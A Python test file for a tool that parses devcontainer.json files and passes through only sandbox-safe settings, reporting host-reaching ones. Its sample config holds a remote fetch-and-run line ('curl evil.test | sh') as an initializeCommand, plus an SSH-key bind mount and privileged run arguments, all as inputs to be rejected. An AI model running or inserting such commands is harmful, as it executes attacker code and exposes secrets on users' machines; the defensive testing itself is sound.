"""What a repository's devcontainer.json may decide: nothing that reaches the desktop."""

import json
import subprocess
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from companion.config import decode, devcontainer, draft
from companion.config.devcontainer import Command, UnreadableError
from companion.config.values import is_hidden
from companion.operations import dev_container
from companion.render import created

FILE = ".devcontainer/devcontainer.json"
TYPICAL = """\
// A comment, and a trailing comma below.
{
  "name": "web",
  "image": "mcr.microsoft.com/devcontainers/python:3.12",
  "features": {
    "ghcr.io/devcontainers/features/go:1": {"version": "1.22"},
    "ghcr.io/devcontainers/features/node:1": {},
    "ghcr.io/rocker-org/devcontainer-features/apt-packages:1": {"packages": "ripgrep, libpq-dev"},
    "ghcr.io/devcontainers/features/docker-outside-of-docker:1": {},
    "ghcr.io/someone/features/tool:2": {},
  },
  "forwardPorts": [3000, "localhost:5173", "db:5432", 2222],
  "containerEnv": {"MODE": "dev", "KEY": "${localEnv:API_KEY}", "git_pager": "/x", "TOP": "${containerWorkspaceFolder}/a"},
  "initializeCommand": "curl evil.test | sh",
  "postCreateCommand": {"lint": ["npm", "ci", "--prefix", "${containerWorkspaceFolder}/my app"], "seed": "make seed"},
  "onCreateCommand": "pip install -e .",
  "remoteUser": "root",
  "mounts": ["source=${localEnv:HOME}/.ssh,target=/ssh,type=bind"],
  "runArgs": ["--privileged"],
}
"""  # noqa: E501 - as people write it


def read(text: str) -> devcontainer.DevContainer:
    return devcontainer.read(FILE, text, "/home/ann/web")


def test_what_a_sandbox_can_give_is_taken_over():
    found = read(TYPICAL)
    assert found.packages == (
        *("python3", "python3-dev", "python3-pip", "python3-venv", "golang-go"),
        *("ripgrep", "libpq-dev"),
    )
    assert found.ports == (3000, 5173)
    assert found.environment == (("MODE", "dev"), ("TOP", "/home/ann/web/a"))
    assert [(c.key, c.text) for c in found.commands] == [
        ("onCreateCommand", "pip install -e ."),
        ("postCreateCommand.lint", "npm ci --prefix '/home/ann/web/my app'"),
        ("postCreateCommand.seed", "make seed"),
    ]


def test_the_rest_is_named_with_its_place_and_the_reason():
    left = [str(note).removeprefix(f"{FILE}:") for note in read(TYPICAL).left]
    assert [line.partition(": ")[0] for line in left] == [
        *("4:3", "6:5", "9:5", "10:5", "12:44", "12:55"),
        *("13:35", "13:65", "14:3", "17:3", "18:3", "19:3"),
    ]
    for words in (
        "would run on the desktop",
        "the desktop's Docker",
        "version 1.22",
        "${localEnv:",
    ):
        assert any(words in line for line in left), words


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("", "1:1: the file must hold one object"),
        ("[1]", "1:1: the file must hold one object"),
        ('{"a": }', "1:7: a value is missing here"),
        ("[" * 5000, ""),
        ('{"forwardPorts": [' + "9" * 5000 + "]}", "1:19: the number is too long"),
        (" " * 200_000, "1:1: longer than 100,000 characters"),
    ],
)
def test_a_file_that_is_none_has_one_message(text: str, problem: str):
    with pytest.raises(UnreadableError, match=f"^{FILE}:1:") as error:
        read(text)
    assert problem in str(error.value)


KEYS = st.sampled_from(
    [
        "image",
        "features",
        "forwardPorts",
        "appPort",
        "containerEnv",
        "remoteEnv",
        "mounts",
        "build",
        "runArgs",
        "…",
        "a\nb",
        "onCreateCommand",
        "postCreateCommand",
        "initializeCommand",
    ]
)
WORDS = st.text() | st.sampled_from(
    [
        "a\nRUN x",
        "${localEnv:HOME}",
        "${localWorkspaceFolder}/..",
        "x; y",
        "\x1b[2J",
        "-o",
        "�",
        "ghcr.io/devcontainers/features/java:1",
        "ghcr.io/devcontainers-extra/features/a-apt-get:1",
        "ghcr.io/rocker-org/devcontainer-features/apt-packages:1",
    ]
)
VALUES = st.recursive(
    WORDS | st.integers() | st.floats() | st.booleans() | st.none(),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(WORDS, inner, max_size=4),
)


@given(st.dictionaries(KEYS, VALUES))
def test_no_file_makes_anything_but_plain_values(given_: dict[str, object]):
    found = read(json.dumps(given_).replace("NaN", "0").replace("Infinity", "0"))
    shown = [str(note) for note in (*found.taken, *found.left)]
    texts = (
        *shown,
        *found.packages,
        *(c.text for c in found.commands),
        *map("=".join, found.environment),
    )
    assert not any(is_hidden(char) for text in texts for char in text if char not in "\n\t")
    assert not any("\n" in line for line in shown)
    assert not any("${local" in c.text for c in found.commands)
    assert all(0 < port < 65536 for port in found.ports)


APT = "ghcr.io/rocker-org/devcontainer-features/apt-packages:1"


@given(st.from_regex(r"[a-z0-9][a-z0-9+.=:-]{0,80}", fullmatch=True))
@example("foo-")
@example("a" * 75)
@example("null")
@example("123")
@example("1.5")
def test_whatever_packages_a_file_names_the_config_that_is_written_from_it_is_valid(name: str):
    container = read(json.dumps({"features": {APT: {"packages": name}}}))
    text = draft.text(draft.Draft("a", "codex", "x", "/home/ann/web", container=container))
    assert decode.agent(text, "agent.yaml")[0].packages == container.packages
    assert bool(container.packages) != bool(container.left)


def test_the_commands_run_once_in_order_and_never_after_a_failure(tmp_path: Path):
    home, work = tmp_path / "home", tmp_path / "it's work"
    home.mkdir()
    work.mkdir()
    commands = [Command("onCreateCommand", "echo one >>seen; test -e ready"),
                Command("postCreateCommand", "echo 'two' >>seen")]  # fmt: skip

    def start() -> str:
        text = created.render(FILE, str(work), tuple(commands))
        subprocess.run(
            ["bash", "-c", f"{text}wait"],
            env={"HOME": str(home), "PATH": "/usr/bin:/bin"},
            check=True,
        )
        return (work / "seen").read_text()

    assert start() == "one\n", "the second one waits for the first"
    (work / "ready").touch()
    assert start() == "one\none\ntwo\n"
    assert start() == "one\none\ntwo\n", "what succeeded is not run again"
    commands.pop()
    assert start() == "one\none\ntwo\none\n", "another list is another one"


def test_a_file_is_read_where_it_lies_and_through_no_link(tmp_path: Path):
    assert dev_container.find(tmp_path, "/w") is None
    folder = tmp_path / ".devcontainer"
    for name in ("api", "web"):
        (folder / name).mkdir(parents=True)
        (folder / name / "devcontainer.json").write_text('{"forwardPorts": [3000]}')
        found = dev_container.find(tmp_path, "/w")
    assert found.ports == ()
    assert "one of 2 such files, so none is read" in str(found.left[0])
    (tmp_path / ".devcontainer.json").symlink_to("/etc/passwd")
    (note,) = dev_container.find(tmp_path, "/w").left
    assert str(note).startswith(".devcontainer.json:1:1: the file: a symbolic link")
    (folder / "devcontainer.json").write_text('{"forwardPorts": [4000],}')
    assert dev_container.find(tmp_path, "/w").ports == (4000,)
    (folder / "devcontainer.json").write_bytes(b"\xff")
    assert "not UTF-8" in str(dev_container.find(tmp_path, "/w").left[0])
